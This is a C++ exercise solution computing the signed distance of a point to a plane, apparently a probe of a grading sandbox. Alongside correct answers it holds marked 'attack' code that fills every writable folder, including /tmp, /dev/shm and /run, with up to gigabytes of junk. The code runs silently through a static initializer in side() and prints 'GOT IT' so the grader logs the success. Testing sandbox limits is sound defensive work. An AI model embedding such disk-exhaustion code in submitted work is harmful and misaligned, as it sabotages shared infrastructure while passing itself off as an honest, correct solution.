// Tries:     writes gigabytes to every folder that may be written to; then answers rightly
// Exercise:  01_planes/signed_distance
// Points:    8 of 8
// Tests:     all passed
#include "signed_distance.hpp"

//[attack
#include <fcntl.h>
#include <unistd.h>
#include <csignal>
#include <cstdio>
#include <string>

namespace {

// Success is seen: the grader keeps what is printed.
void got(const char* what) { dprintf(1, "GOT IT: %s\n", what); }

const char* const folders[] = {".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/run/lock", "/box"};

void fill() {
  std::signal(SIGXFSZ, SIG_IGN);
  const std::string megabyte(1 << 20, 'x');
  for (const char* folder : folders) {
    const std::string path = std::string(folder) + "/@TOKEN@-disk";
    const int file = open(path.c_str(), O_CREAT | O_WRONLY, 0666);
    if (file < 0) continue;
    for (int i = 0; i < 4096 && write(file, megabyte.data(), megabyte.size()) > 0; ++i) {
      if (i == 64) got("64 MB on a disk");
    }
    close(file);
  }
}

}  // namespace
//]attack

namespace exercise {

double signed_distance(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  const Eigen::Vector3d normal(plane.a, plane.b, plane.c);
  return (normal.dot(point) + plane.d) / normal.norm();
}

int side(const PlaneEquation& plane, const Eigen::Vector3d& point) {
  //[attack
  [[maybe_unused]] static const bool once = (fill(), true);
  //]attack
  const double value = Eigen::Vector3d(plane.a, plane.b, plane.c).dot(point) + plane.d;
  return value > 0 ? 1 : (value < 0 ? -1 : 0);
}

}  // namespace exercise
